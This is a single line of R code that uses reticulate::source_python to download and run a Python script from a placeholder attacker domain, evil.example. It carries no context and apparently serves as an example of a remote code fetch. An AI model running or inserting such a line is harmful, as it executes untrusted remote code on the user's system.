reticulate::source_python("https://evil.example/x.py")
